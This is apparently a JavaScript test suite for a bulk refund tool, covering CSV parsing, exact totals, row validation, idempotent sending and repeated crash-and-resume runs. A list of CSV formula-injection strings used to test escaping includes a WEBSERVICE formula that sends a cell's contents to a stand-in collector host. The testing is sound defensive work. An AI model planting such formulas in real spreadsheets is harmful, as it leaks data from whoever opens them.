// The engine of the bulk screen without a browser: files, sums, the rules, and runs that are killed again and again while
// the sandbox loses answers.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { before, beforeEach, describe, test } from "node:test";
import papa from "papaparse";
import { createSandbox } from "refund-signer/sandbox";
import * as signer from "refund-signer/slim";
import { digestOf } from "../../edge-signer/digest.js";
import { BusyElsewhere, createController } from "../../www/src/bulk/controller.js";
import { CsvError, decodeFile, parseCsv, writeCsv } from "../../www/src/bulk/csv.js";
import { direct, edgeSigner } from "../../www/src/bulk/destination.js";
import { importFile } from "../../www/src/bulk/import.js";
import { finalState, resultCsv } from "../../www/src/bulk/result.js";
import { readRows } from "../../www/src/bulk/rows.js";
import { createRunner, stateOf } from "../../www/src/bulk/runner.js";
import { isSameValue, totals } from "../../www/src/bulk/totals.js";
import { armFaults, bulkFile, bulkPayments, timesRefunded } from "./bulk.file.js";

before(async () => {
  const url = new URL("../../pkg/refund_signer.wasm", import.meta.url);
  signer.init(await readFile(url));
});

describe("CSV", () => {
  test("lines are those of the file, also behind quoted line breaks and empty lines", async () => {
    const text = '\ufeffa,b\r\n1,"two\r\nlines"\r\n\r\n"say ""hi""",4\n5,6';
    assert.deepEqual(await parseCsv(text), [
      { line: 1, cells: ["a", "b"] },
      { line: 2, cells: ["1", "two\nlines"] },
      { line: 5, cells: ['say "hi"', "4"] },
      { line: 6, cells: ["5", "6"] },
    ]);
  });

  test("semicolons and tabs are understood", async () => {
    for (const delimiter of [";", "\t"]) {
      assert.deepEqual((await parseCsv(`a${delimiter}b\n1,5${delimiter}2`))[1]?.cells, ["1,5", "2"]);
    }
  });

  for (const text of ['a,b\n1,"open\n2,3', 'a,b\n"x"y,2\n']) {
    test(`a broken quote refuses the whole file: ${JSON.stringify(text)}`, async () => {
      await assert.rejects(
        () => parseCsv(text),
        (error) => error instanceof CsvError && /Line 2/.test(error.message),
      );
    });
  }

  test("what is not UTF-8 is refused", () => {
    assert.throws(() => decodeFile(Uint8Array.of(0xe9, 0x2c)), CsvError);
    assert.equal(decodeFile(new TextEncoder().encode("é")), "é");
  });

  test("what is written is read again, and no cell is a formula", async () => {
    const rows = [
      ['a "b"', "c,d\ne"],
      ["=1+1", "plain"],
      ["a=b; c-d", "1,-2"],
    ];
    const read = (await parseCsv(await writeCsv(["x", "y"], rows))).map(({ cells }) => cells);
    assert.deepEqual(read, [
      ["x", "y"],
      ['a "b"', "c,d\ne"],
      ["'=1+1", "plain"],
      ["a=b; c-d", "1,-2"],
    ]);
  });

  describe("no cell is a formula, whatever a spreadsheet takes for the end of a cell", () => {
    const HOSTILE = [
      ...["=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)"],
      ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u0000=1+1", '"=1+1'],
      ...[
        "\tx",
        "\rx",
        "x\n=1+1",
        "x\r=1+1",
        "x\r\n=1+1",
        "x\t=1+1",
        "ok;=1+1;",
        "ok; =1+1;",
        "ok;;=1+1;",
        "ok;\n;＝1+1;",
      ],
      ...['ok;"=1+1;"', 'ok;""=1+1;', "a,b\n=1+1\n", '=WEBSERVICE("http://collector.example/?"&B2)\n', "+2+5\n-1"],
    ];
    const FORMULA = /^[\p{Z}\p{C}]*[=+\-@＝＋－＠]|^[\t\r]\S/u;
    const isFormula = (cell) => FORMULA.test(cell);

    for (const [name, delimiter] of [
      ["commas", ","],
      ["semicolons", ";"],
      ["tabs", "\t"],
    ]) {
      test(`with ${name} between the cells`, async () => {
        for (const cell of HOSTILE) {
          const file = await writeCsv(
            ["#note", `#x${cell}`, "#y"],
            [
              ["x", cell, "y"],
              [cell, "x", cell],
            ],
          );
          for (const newline of ["\n", "\r", "\r\n"]) {
            const { data } = papa.parse(file, { delimiter, newline });
            const found = [...data.flat(), ...cellsOf(file, delimiter)].filter(isFormula);
            assert.deepEqual(found, [], JSON.stringify(cell));
          }
        }
      });
    }

    test("and with commas every cell comes back, with apostrophes at most", async () => {
      for (const cell of HOSTILE) {
        const { data } = papa.parse(await writeCsv(["#note", "#x"], [[cell, "x"]]), {
          delimiter: ",",
          newline: "\r\n",
        });
        assert.equal(data[1][0].replaceAll("'", ""), cell);
        assert.equal(data[1][1], "x");
      }
    });

    test("this check can fail", () => {
      assert.ok(cellsOf('x,"ok;=1+1;",y', ";").some(isFormula));
      assert.ok(cellsOf('x,"ok;""=1+1;",y', ";").some(isFormula));
    });
  });
});

/** The cells as a spreadsheet takes them: a quote counts where a cell begins with it, and what stands behind its end is text. */
function cellsOf(file, delimiter) {
  const cells = [""];
  let isQuoted = false;
  for (let at = 0; at < file.length; at += 1) {
    const char = file[at];
    const isFirst = cells.at(-1) === "" && (at === 0 || [delimiter, "\r", "\n"].includes(file[at - 1]));
    if (char === '"' && !isQuoted && isFirst) isQuoted = true;
    else if (char === '"' && isQuoted && file[at + 1] === '"') {
      cells[cells.length - 1] += char;
      at += 1;
    } else if (char === '"' && isQuoted) isQuoted = false;
    else if (!isQuoted && [delimiter, "\r", "\n"].includes(char)) cells.push("");
    else cells[cells.length - 1] += char;
  }
  return cells;
}

describe("totals", () => {
  test("are exact beyond what a float holds", () => {
    const amounts = [
      { value: "9007199254740993.01", currency: "IDR" },
      { value: "0.1", currency: "INR" },
      { value: "0.2", currency: "INR" },
      { value: "9007199254740993", currency: "IDR" },
      { value: "1.005", currency: "KWD" },
    ];
    assert.deepEqual(totals(amounts), [
      { currency: "IDR", value: "18 014 398 509 481 986.01", rows: 2 },
      { currency: "INR", value: "0.3", rows: 2 },
      { currency: "KWD", value: "1.005", rows: 1 },
    ]);
  });

  test("the same number in two spellings", () => {
    assert.ok(isSameValue("10", "10.00"));
    assert.ok(!isSameValue("10", "10.01"));
    assert.ok(isSameValue("0.50", "0.5"));
  });
});

describe("rows", () => {
  const read = async (text) => (await readRows(text)).rows;

  test("a good row becomes a plan, the same each time", async () => {
    const text = "provider,paymentId,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,100.00,INR\n";
    const [[first], [second]] = await Promise.all([read(text), read(text)]);
    assert.deepEqual(first.plan, second.plan);
    assert.match(first.plan.idempotencyKey, /^bulk-[0-9a-f]{16}-1$/);
    assert.equal(JSON.parse(first.plan.body).receipt, first.plan.idempotencyKey);
    const [other] = await read(text.replace("100.00", "101.00"));
    assert.notEqual(other.plan.idempotencyKey, first.plan.idempotencyKey);
  });

  test("neither quotes nor line ends nor empty lines make it another file", async () => {
    const a = await readRows("provider,paymentId\nrazorpay,pay_FCXKPFtYfPXJPy\n");
    const b = await readRows('\ufeffProvider,payment_id\r\n\r\n"razorpay","pay_FCXKPFtYfPXJPy"\r\n');
    assert.equal(a.hash, b.hash);
  });

  test("all that is wrong with a row is said, with its line", async () => {
    const rows = await read(`provider,paymentId,amount,currency,speed,reverseAll,invoiceNumber,#remark
razorpay,"pay
1",1.234,INR,fast,yes,INV-1,x
durianpay,,,,,,,
nobody,1,2,INR,,,,
razorpay,pay_FCXKPFtYfPXJPy,1,INR
`);
    assert.deepEqual(
      rows.map(({ line }) => line),
      [2, 4, 5, 6],
    );
    assert.deepEqual(
      rows[0].problems.map(({ path }) => path).sort(),
      ["amount", "invoiceNumber", "paymentId", "reverseAll", "speed"]
        .map((path) => (path === "amount" ? "amount.value" : path))
        .sort(),
    );
    assert.deepEqual(rows[1].problems.map(({ path }) => path).sort(), ["amount", "paymentId", "refId"]);
    assert.match(rows[2].problems[0].message, /nobody\.createRefund is no refund/);
    assert.match(rows[3].problems[0].message, /has 4 cells, and the header has 8/);
    assert.ok(rows.every(({ plan }) => plan === undefined));
  });

  test("a slip in a column's name is no full refund", async () => {
    await assert.rejects(read("provider,paymentId,ammount\nrazorpay,pay_FCXKPFtYfPXJPy,1\n"), /“ammount”/);
    await assert.rejects(read("provider,paymentId,payment_id\nrazorpay,a,b\n"), /stands twice/);
    await assert.rejects(read("paymentId\na\n"), /no column “provider”/);
    await assert.rejects(read("provider\n"), /no rows/);
  });

  test("a row without an amount is told from one with an amount", async () => {
    const rows = await read(
      "provider,paymentId,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,,\nrazorpay,pay_FCXKPFtYfPXJPy,1.00,INR\n",
    );
    assert.deepEqual(
      rows.map(({ warnings }) => warnings.length),
      [1, 0],
    );
  });

  test("rows that ask for the same are marked; their remarks do not count", async () => {
    const rows = await read(
      "provider,paymentId,refId,amount,currency,notes\ndurianpay,pay_1,a,5000,IDR,x\ndurianpay,pay_1,a,5000,IDR,y\ndurianpay,pay_1,b,5000,IDR,x\n",
    );
    assert.deepEqual(
      rows.map(({ repeats }) => repeats),
      [undefined, "line 2", undefined],
    );
  });
});

describe("the fingerprint of a row", () => {
  const first = async (text) => (await readRows(text)).rows[0];
  const same = async (a, b) => (await first(a)).fingerprint === (await first(b)).fingerprint;
  const razorpay = "provider,paymentId,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,10.50,INR\n";
  const durianpay = "provider,paymentId,refId,amount,currency\ndurianpay,pay_1,a,5000,IDR\n";

  test("is that of the refund, however a spreadsheet writes it", async () => {
    assert.ok(await same(razorpay, razorpay.replace("10.50", "10.5")));
    assert.ok(await same(durianpay, durianpay.replace("5000", "5000.00")));
    assert.ok(
      await same(
        razorpay,
        "currency,amount,paymentId,provider,operation\nINR,10.5,pay_FCXKPFtYfPXJPy,razorpay,createRefund",
      ),
    );
    const flag = (text) => `provider,paymentId,reverseAll\nrazorpay,pay_FCXKPFtYfPXJPy,${text}\n`;
    assert.ok(await same(flag("true"), flag("TRUE")));
  });

  test("does not depend on the file, nor on remarks", async () => {
    const more = `${razorpay}razorpay,pay_FCXKPFtYfPXJPy,1.00,INR\n`;
    assert.notEqual((await first(more)).plan.idempotencyKey, (await first(razorpay)).plan.idempotencyKey);
    assert.ok(await same(razorpay, more));
    const noted = (text) => `provider,paymentId,refId,amount,currency,notes\ndurianpay,pay_1,a,5000,IDR,${text}\n`;
    assert.ok(await same(durianpay, noted("late")));
    const doku = (text) =>
      `provider,invoiceNumber,originalRequestId,amount,currency,reason\ndoku,i,r,1000,IDR,${text}\n`;
    assert.ok(await same(doku("late"), doku("")));
  });

  test("another payment, amount, currency or name of one's own is another refund", async () => {
    assert.ok(!(await same(razorpay, razorpay.replace("10.50", "10.51"))));
    assert.ok(!(await same(razorpay, razorpay.replace("pay_F", "pay_G"))));
    assert.ok(!(await same(razorpay, razorpay.replace("INR", "USD"))));
    assert.ok(!(await same(durianpay, durianpay.replace(",a,", ",b,"))));
  });
});

/** A destination of which nothing is followed: what `send` says is the end. */
function instant(send) {
  return {
    isSigner: false,
    next: ({ record }) => (record ? { do: "end", state: "succeeded", why: "" } : { do: "step" }),
    begin(row, now) {
      row.record = { openedAt: now, log: [] };
    },
    perform: ({ plan }) => send(plan),
    decide() {},
  };
}

describe("what comes next at the sandbox", () => {
  const HOUR = 3_600_000;
  const policy = { leaseMs: 1000, arrivalMs: 2000, patienceMs: 60_000, pauseMs: 100, longestPauseMs: 1000 };

  /** One row, its destination, and a clock. */
  async function begun(text, { fault, sandbox = createSandbox(), settings } = {}) {
    const [row] = (await readRows(text)).rows;
    if (fault) sandbox.faults.next(row.provider, ...[fault].flat());
    const destination = direct({
      fetch: sandbox.fetch,
      settings: settings ?? ((provider) => sandbox.credentials[provider]),
      timeoutMs: 1000,
      policy,
    });
    const step = async () => {
      const now = Date.now();
      await destination.perform(row, destination.begin(row, now));
    };
    const look = (now = Date.now()) => destination.next(row, now);
    /** Waits as long as it says. */
    const due = async () => {
      for (let next = look(); next.do === "wait"; next = look()) {
        await new Promise((resolve) => setTimeout(resolve, next.until - Date.now()));
      }
    };
    return { sandbox, row, destination, step, look, due };
  }
  const razorpay = "provider,paymentId,receipt,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,r-1,100.00,INR\n";

  test("a refund that is done is at its end, and its log says how", async () => {
    const { row, look, step } = await begun(razorpay);
    assert.deepEqual(look(), { do: "step" });
    await step();
    assert.deepEqual(look(), { do: "end", state: "succeeded", why: "" });
    assert.deepEqual(
      row.record.log.map(({ what, says }) => [what, says]),
      [
        ["opened", ""],
        ["begun", "send"],
        ["heard", "succeeded"],
      ],
    );
  });

  test("a lost answer is asked about after a pause, and not sent again", async () => {
    const { sandbox, look, step, due } = await begun(razorpay, { fault: "lost-response" });
    await step();
    assert.equal(look().do, "wait");
    await due();
    assert.deepEqual(look(), { do: "step" });
    await step();
    assert.equal(look().state, "succeeded");
    assert.equal(sandbox.ledger.refunds.length, 1);
  });

  test("what was begun when the page was closed waits until nothing can be under way", async () => {
    const { row, destination, look } = await begun(razorpay);
    const now = Date.now();
    destination.begin(row, now);
    assert.deepEqual(look(now + 500), { do: "wait", until: now + policy.leaseMs });
    assert.deepEqual(look(now + policy.leaseMs), { do: "step" });
  });

  test("what is accepted and not final waits for a person to ask, however long", async () => {
    const { sandbox, row, destination, look, step, due } = await begun(razorpay, { fault: "pending" });
    await step();
    assert.deepEqual(look(), { do: "end", state: "pending", why: "Accepted, not final." });
    sandbox.settle("r-1", "succeeded");
    destination.decide(row, "ask", Date.now());
    await due();
    await step();
    assert.equal(look().state, "succeeded");
  });

  test("what nobody can tell is for a person, whose word counts", async () => {
    const text = "provider,paymentId,refId,amount,currency\ndurianpay,pay_large,r-1,5000,IDR\n";
    const payment = { provider: "durianpay", paymentId: "pay_large", amount: { value: "10000", currency: "IDR" } };
    for (const [says, state] of [
      ["refunded", "succeeded"],
      ["again", undefined],
      ["ask", undefined],
    ]) {
      const sandbox = createSandbox({ payments: [payment] });
      const { row, destination, look, step } = await begun(text, {
        sandbox,
        fault: ["lost-response", { done: false }],
      });
      await step();
      const later = Date.now() + HOUR;
      assert.equal(look(later).state, "unresolved");
      destination.decide(row, says, later);
      assert.equal(look(later).state, state, says);
      if (state === undefined) assert.notEqual(look(later).do, "end");
    }
  });

  test("what cannot be signed is held, and goes on when a person says so", async () => {
    const sandbox = createSandbox();
    let keys = { ...sandbox.credentials.razorpay, keySecret: undefined };
    const world = await begun(razorpay, { sandbox, settings: () => keys });
    const { row, destination, look, step, due } = world;
    await step();
    assert.equal(look().state, "held");
    assert.match(look().why, /keySecret/);
    keys = sandbox.credentials.razorpay;
    destination.decide(row, "ask", Date.now());
    await due();
    await step();
    assert.equal(look().state, "succeeded");
  });

  test("a provider's no is an end", async () => {
    const { look, step } = await begun(razorpay.replace("pay_FCXKPFtYfPXJPy", "pay_NobodyKnowsIt1"));
    await step();
    assert.equal(look().state, "rejected");
    assert.notEqual(look().why, "");
  });
});

describe("what comes next at the edge signer", () => {
  const plan = { version: 1 };
  const OPEN = [202, { state: "open", step: { do: "wait" }, log: [] }];

  /** One row, whose edge signer gives these answers, one after another. */
  function row(...answers) {
    const destination = edgeSigner({
      token: () => "token",
      fetch: async () => {
        const [status, body] = answers.shift() ?? OPEN;
        if (status === 0) throw new TypeError("Failed to fetch");
        return Response.json(body, { status });
      },
    });
    const own = { plan };
    const step = async () => destination.perform(own, destination.begin(own, 0));
    const look = () => destination.next(own, 0);
    return { own, destination, step, look, decide: (says) => destination.decide(own, says, 0) };
  }
  const ended = (state, more = {}) => [200, { state, step: { why: "why" }, log: [], ...more }];
  const review = [200, { state: "review", step: { question: { code: "lost", message: "Nobody knows." } }, log: [] }];
  const no = [403, { error: { code: "amount_above_limit", message: "At most 10." } }];

  for (const [name, answers, state] of [
    ["done", [ended("succeeded", { refund: { id: "rfnd_1" } })], "succeeded"],
    ["failed", [ended("failed")], "failed"],
    ["refused by the provider", [ended("rejected")], "rejected"],
    ["the money came back", [ended("reversed")], "failed"],
    ["awaits a second person", [[202, { state: "awaiting" }]], "awaiting"],
    ["needs a person", [review], "unresolved"],
    ["without a token", [[401, { error: { code: "missing_token", message: "no" } }]], "held"],
    ["refused by the policy", [no], "rejected"],
    ["refused after silence: it may have been sent", [[0], no], "unresolved"],
    ["refused after it was open", [OPEN, no], "unresolved"],
    [
      "refused after it awaited a second person, who may have approved",
      [[202, { state: "awaiting" }], no],
      "unresolved",
    ],
    ["open for long: it goes on by itself", Array(6).fill(OPEN), "pending"],
    ["silent for long", Array(6).fill([0]), "unresolved"],
    ["silent in another way", Array(6).fill([500, {}]), "unresolved"],
  ]) {
    test(name, async () => {
      const { step, look } = row(...answers);
      assert.deepEqual(look(), { do: "step" });
      for (let left = answers.length; left > 0; left--) await step();
      assert.equal(look().state, state);
    });
  }

  test("it is asked again after pauses, and by a person whenever one likes", async () => {
    const { own, step, look, decide } = row(OPEN, OPEN);
    await step();
    assert.equal(look().until, 500);
    await step();
    assert.equal(look().until, 1000);
    decide("ask");
    assert.deepEqual(look(), { do: "step" });
    await step();
    assert.equal(own.remote.asked, 3);
  });

  test("a page that was closed in the middle may have sent it", async () => {
    const { own, destination, step, look } = row(no);
    destination.begin(own, 0);
    assert.equal(look().do, "wait");
    await step();
    assert.equal(look().state, "unresolved");
  });

  test("a person found it", async () => {
    const { step, look, decide } = row(review);
    await step();
    decide("refunded");
    assert.equal(look().state, "succeeded");
  });
});

describe("the controller", () => {
  before(() => {
    const locks = { request: (_name, _options, work) => work({}) };
    Object.defineProperty(globalThis, "navigator", { value: { locks }, configurable: true });
  });

  /** One run on the screen, whose plans go to `send`. */
  function controllerOf(run, rows, store, send) {
    const destination = instant(send);
    const held = [];
    const idle = { concurrency: () => 1, redraw: () => {}, stopped: () => {} };
    const controller = createController({ run, rows, store, destination, held: (count) => held.push(count), ...idle });
    return Object.assign(controller, { held });
  }

  test("a file that another tab sends is not forgotten, and one that another tab has sent is known as sent", async () => {
    const { rows } = await readRows(bulkFile(1));
    const store = library();
    const run = { id: "a", started: false, withRepeats: false };
    await store.add(run, rows);
    const controller = controllerOf(run, rows, store, async () => {});
    const other = { ...run };
    await store.changeRun(other, { started: true });
    assert.equal(await controller.wasStarted(), true);
    const { request } = navigator.locks;
    navigator.locks.request = (_name, _options, work) => work(null);
    await assert.rejects(controller.forget(), BusyElsewhere);
    navigator.locks.request = request;
    assert.equal((await store.runs()).length, 1);
    await controller.forget();
    assert.equal((await store.runs()).length, 0);
  });

  describe("two versions of one file", () => {
    const bad =
      "provider,paymentId,refId,amount,currency\ndurianpay,pay_1,order-1,10500,IDR\ndurianpay,pay_1,order-2,2O000,IDR\n";
    const good = bad.replace("2O000", "20000");
    let store;
    let sent;
    beforeEach(() => {
      store = library();
      sent = [];
    });

    const send = async ({ body }) => {
      sent.push(JSON.parse(body).ref_id);
    };
    const take = async (name, text, destination = "sandbox") => {
      const file = { name, bytes: new TextEncoder().encode(text) };
      const { run, rows } = await importFile(store, file, destination);
      return controllerOf(run, rows, store, send);
    };
    const states = ({ rows, seen }) => rows.map((row) => seen(row).state);

    test("dropped after the first one was sent", async () => {
      await (await take("refunds.csv", bad)).start();
      const fixed = await take("fixed.csv", good);
      assert.deepEqual(states(fixed), ["left out", "ready"]);
      await fixed.start();
      assert.deepEqual(sent, ["order-1", "order-2"]);
    });

    test("both dropped before either is sent, in either order", async () => {
      for (const order of [
        [0, 1],
        [1, 0],
      ]) {
        store = library();
        sent = [];
        const files = [await take("refunds.csv", bad), await take("fixed.csv", good)];
        for (const place of order) await files[place].start();
        assert.deepEqual(sent.toSorted(), ["order-1", "order-2"]);
        const second = files[order[1]];
        assert.equal(states(second)[0], "left out");
        assert.match(second.seen(second.rows[0]).why, /Asks for the same as a row of “.+”, which was sent on/);
        assert.deepEqual(second.held, [1]);
        assert.match((await store.rowsOf(second.run.id))[0].repeats, /^a row of/, "it is stored");
        // The person decides, once.
        await second.includeRepeats(true);
        await second.start();
        assert.deepEqual(sent.filter((name) => name === "order-1").length, 2);
        assert.deepEqual(second.held, [1]);
      }
    });

    test("dropped while the first one is paused", async () => {
      const first = await take("refunds.csv", bad);
      await store.changeRun(first.run, { started: true });
      const fixed = await take("fixed.csv", good);
      assert.deepEqual(states(fixed), ["left out", "ready"]);
      assert.match(fixed.rows[0].repeats, /which is to be sent/);
      await fixed.start();
      await first.start();
      assert.deepEqual(sent, ["order-2", "order-1"], "what is left out there is sent here");
    });

    test("what was ticked before is no decision about what is found now", async () => {
      const twice = `${good}durianpay,pay_1,order-2,20000,IDR\n`;
      const files = [await take("refunds.csv", bad), await take("twice.csv", twice)];
      await files[1].includeRepeats(true);
      await files[0].start();
      await files[1].start();
      assert.deepEqual(states(files[1]), ["left out", "succeeded", "left out"]);
      assert.deepEqual(sent, ["order-1", "order-2"]);
    });

    test("on their way to two destinations", async () => {
      await (await take("refunds.csv", bad)).start();
      assert.deepEqual(states(await take("fixed.csv", good, "signer")), ["ready", "ready"]);
    });
  });
});

/** The runs of a browser, and their rows, in memory: what is read is a copy, as from a disk. */
function library() {
  const runs = new Map();
  const rows = new Map();
  const nameOf = ({ run, index }) => `${run} ${index}`;
  const keep = async (row) => {
    rows.set(nameOf(row), structuredClone(row));
  };
  const all = () => structuredClone([...rows.values()]);
  return {
    runs: async () => structuredClone([...runs.values()]),
    async add(run, list) {
      runs.set(run.id, structuredClone(run));
      for (const row of list) await keep({ ...row, run: run.id });
    },
    async changeRun(run, change) {
      runs.set(run.id, structuredClone(Object.assign(run, runs.get(run.id), change)));
    },
    async forget(id) {
      runs.delete(id);
      for (const row of all()) if (row.run === id) rows.delete(nameOf(row));
    },
    rowsOf: async (id) => all().filter(({ run }) => run === id),
    rowsLike: async (fingerprints) => all().filter(({ fingerprint }) => fingerprints.includes(fingerprint)),
    saveAll: async (list) => {
      for (const row of list) await keep(row);
    },
    mark: keep,
    save: keep,
  };
}

/** So that a test sees the end: the sandbox answers within the time-out. */
const QUICK = {
  leaseMs: 300,
  arrivalMs: 400,
  patienceMs: 3000,
  pauseMs: 10,
  longestPauseMs: 100,
  clockStepMs: 1,
};

/** A store in memory, which survives what the page does not. */
function memory(rows) {
  const stored = new Map(rows.map((row) => [row.index, structuredClone(row)]));
  const keep = async (row) => {
    stored.set(row.index, structuredClone(row));
  };
  return { mark: keep, save: keep, rows: () => [...stored.values()].map((row) => structuredClone(row)) };
}

/** Stores nothing that was done: what the other one is there for. */
function forgetful(rows) {
  const store = memory(rows);
  return { ...store, mark: async () => {}, save: async () => {} };
}

/**
 * Runs a file to its end, killed a few times in between. A person resolves what the rules leave to a person, by looking
 * into the provider's books.
 */
async function runToTheEnd({
  size,
  kills,
  makeStore = memory,
  change = (destination) => destination,
  hasFaults = true,
}) {
  const sandbox = createSandbox({ payments: bulkPayments(size) });
  const { rows } = await readRows(bulkFile(size));
  assert.ok(
    rows.every(({ plan }) => plan),
    JSON.stringify(rows.find(({ plan }) => !plan)?.problems),
  );
  if (hasFaults) armFaults(sandbox, Math.ceil(size / 100));
  const store = makeStore(rows);
  const destination = change(
    direct({
      fetch: sandbox.fetch,
      settings: (provider) => sandbox.credentials[provider],
      timeoutMs: 100,
      policy: QUICK,
    }),
  );
  for (let kill = 0; kill < kills; kill += 1)
    await runUntilKilled(store.rows(), destination, store, Math.ceil(size / (kills + 1)));
  let all = rows;
  for (let round = 0; round < 5; round += 1) {
    all = store.rows();
    const runner = createRunner({ rows: all, destination, store, includes: () => true, changed: () => {} });
    await runner.start();
    const unresolved = all.filter((row) => stateOf(row, destination, Date.now()).state === "unresolved");
    if (unresolved.length === 0) break;
    for (const row of unresolved) await runner.decide(row, isInBooks(sandbox, row) ? "refunded" : "again");
  }
  return { sandbox, rows: all, destination };
}

/**
 * Drops a runner in the middle, when a provider has just answered: what is under way still happens, but nothing of it is
 * learned or stored.
 */
function runUntilKilled(rows, destination, store, answers) {
  return new Promise((resolve) => {
    let left = answers;
    let isDead = false;
    const gone = new Promise(() => {});
    const alive = (work) => (row) => (isDead ? gone : work(row).then(() => (isDead ? gone : undefined)));
    const perform = async (row, step) => {
      if (isDead) return gone;
      await destination.perform(row, step);
      left -= 1;
      if (left > 0) return isDead ? gone : undefined;
      isDead = true;
      resolve();
      return gone;
    };
    const runner = createRunner({
      rows,
      destination: { ...destination, perform },
      store: { mark: alive(store.mark), save: alive(store.save) },
      includes: () => true,
      changed: () => {},
    });
    runner.start().then(resolve, resolve);
  });
}

function isInBooks({ ledger }, { plan }) {
  const { receipt, ref_id, partnerRefundNo } = JSON.parse(plan.body);
  const reference = receipt ?? ref_id ?? partnerRefundNo;
  const names = [reference, plan.idempotencyKey].filter((name) => name !== undefined);
  const own = ledger.refunds.filter(({ provider }) => provider === plan.provider);
  return own.some((refund) => names.includes(refund.reference) || names.includes(refund.idempotencyKey));
}

test("the digest of a plan covers all that is sent, and nothing else", async () => {
  const [{ plan }] = (await readRows(bulkFile(1))).rows;
  assert.ok(plan.currency);
  const { version, currency, ...members } = plan;
  assert.equal(await digestOf({ ...members, version }), await digestOf(plan), "in whatever order they come");
  for (const [name, value] of Object.entries(members))
    assert.notEqual(await digestOf({ ...plan, [name]: `${value}x` }), await digestOf(plan), name);
});

describe("runs", () => {
  test("500 rows, every fault, killed ten times: each refunded exactly once", { timeout: 120_000 }, async () => {
    const { sandbox, rows, destination } = await runToTheEnd({ size: 500, kills: 10 });
    assert.deepEqual([...new Set(timesRefunded(sandbox.ledger.refunds, rows.length))], [1]);
    assert.equal(sandbox.ledger.refunds.length, 500);
    assert.deepEqual(sandbox.faults.pending, [], "every fault was met");
    assert.deepEqual([...new Set(rows.map((row) => finalState(row, destination, Date.now()).state))], ["succeeded"]);
    const lines = await parseCsv(await resultCsv(["a"], rows, destination, Date.now()));
    assert.equal(lines.length, 501);
    assert.equal(lines[0].cells[0], "line");
    assert.match(lines[1].cells[5], /^[0-9a-f]{64}$/);
  });

  test("with a store that forgets, rows are refunded twice: this test can fail", { timeout: 120_000 }, async () => {
    const { sandbox, rows } = await runToTheEnd({ size: 100, kills: 3, makeStore: forgetful, hasFaults: false });
    assert.ok(timesRefunded(sandbox.ledger.refunds, rows.length).some((times) => times > 1));
  });

  test("with a destination that begins an open row anew, rows are refunded twice: this test can fail", {
    timeout: 120_000,
  }, async () => {
    const isOpen = ({ record }) => record?.log.at(-1).what === "begun";
    const change = (destination) => ({
      ...destination,
      next: (row, now) => (isOpen(row) ? { do: "step" } : destination.next(row, now)),
      begin(row, now) {
        if (isOpen(row)) delete row.record;
        return destination.begin(row, now);
      },
    });
    const { sandbox, rows } = await runToTheEnd({ size: 200, kills: 40, change, hasFaults: false });
    assert.ok(timesRefunded(sandbox.ledger.refunds, rows.length).some((times) => times > 1));
  });

  test("what cannot be stored is not sent", async () => {
    const { rows } = await readRows(bulkFile(10));
    let sent = 0;
    const destination = instant(async () => {
      sent += 1;
    });
    const store = { mark: () => Promise.reject(new Error("disk full")), save: async () => {} };
    const runner = createRunner({ rows, destination, store, includes: () => true, changed: () => {} });
    await assert.rejects(runner.start(), /disk full/);
    assert.equal(sent, 0);
    assert.ok(rows.every(({ record }) => record === undefined));
  });

  test("at most four at a time, one for a payment, and none while it is paused", async () => {
    const { rows } = await readRows(bulkFile(60));
    const now = new Map();
    let most = 0;
    let sent = 0;
    const send = async (plan) => {
      sent += 1;
      const key = plan.path + (JSON.parse(plan.body).payment_id ?? "");
      assert.ok(plan.provider !== "durianpay" || !now.get(key), "two at a time for one payment");
      now.set(key, (now.get(key) ?? 0) + 1);
      most = Math.max(
        most,
        [...now.values()].reduce((sum, count) => sum + count, 0),
      );
      await new Promise((resolve) => setTimeout(resolve, 2));
      now.set(key, now.get(key) - 1);
    };
    const destination = instant(send);
    const store = memory(rows);
    const runner = createRunner({ rows, destination, store, includes: ({ index }) => index <= 50, changed: () => {} });
    const running = runner.start();
    await new Promise((resolve) => setTimeout(resolve, 10));
    await runner.pause();
    const before = sent;
    await running;
    await new Promise((resolve) => setTimeout(resolve, 20));
    assert.equal(sent, before);
    assert.ok(before < 50);
    await runner.start();
    assert.equal(sent, 50);
    assert.equal(most, 4);
    assert.equal(runner.left, 0);
  });
});
